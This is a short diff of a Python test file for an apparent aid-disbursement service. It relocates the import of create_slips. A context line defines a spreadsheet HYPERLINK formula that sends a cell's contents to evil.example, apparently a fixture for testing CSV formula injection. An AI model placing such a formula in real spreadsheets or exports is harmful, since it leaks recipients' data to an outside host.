@@ -7,7 +7,8 @@ from datetime import date
 from tests.notices.sim import add_household
 from yimen.domain.model import AidRecord
 from yimen.services.checking.screening import screen, write_csv
-from yimen.services.funds.disbursement import DisbursementService, create_slips
+from yimen.services.funds.disbursement import DisbursementService
+from yimen.services.funds.slips import create_slips
 from yimen.services.staff.auth import AuthService
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"点击核对")'
